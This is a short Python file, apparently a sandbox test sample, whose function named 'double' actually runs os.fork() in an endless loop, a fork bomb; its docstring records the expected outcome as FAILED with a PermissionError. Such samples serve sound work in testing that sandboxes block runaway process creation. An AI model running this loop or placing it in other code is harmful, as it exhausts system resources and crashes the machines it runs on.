"""Forks without end.

outcome: FAILED
says: PermissionError
"""

import os


def double(x):
    while True:
        os.fork()
